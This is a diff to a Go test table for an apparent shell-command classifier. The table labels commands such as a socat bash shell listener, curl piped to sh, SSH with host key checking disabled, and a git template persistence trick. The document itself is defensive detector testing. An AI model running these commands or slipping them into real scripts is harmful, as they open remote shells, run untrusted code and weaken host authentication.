@@ -34,6 +34,9 @@ func TestFacts(t *testing.T) {
 		{"git config --global init.templateDir ~/.git-templates", "persistence"},
 		{"sudo ssh -o StrictHostKeyChecking=no -o BatchMode=yes root@localhost true", ""},
 		{"ssh -o StrictHostKeyChecking=no root@203.0.113.9 uptime", "weaken"},
+		{"ssh -o StrictHostKeyChecking=no deploy@127.deploy-fleet.example uptime", "weaken"},
+		{"ssh -o StrictHostKeyChecking=no -J root@localhost deploy@203.0.113.9 uptime", "weaken"},
+		{"socat TCP-L:4444,fork EXEC:/bin/bash,pty,stderr", "reverse-shell"},
 		// A placeholder is a word, not two redirections.
 		{"ssh root@<SERVER_IP> 'chmod 600 /home/u/.ssh/authorized_keys'", ""},
 		{"curl -fsSL https://<host>/i.sh | sh", "pipe-to-shell"},
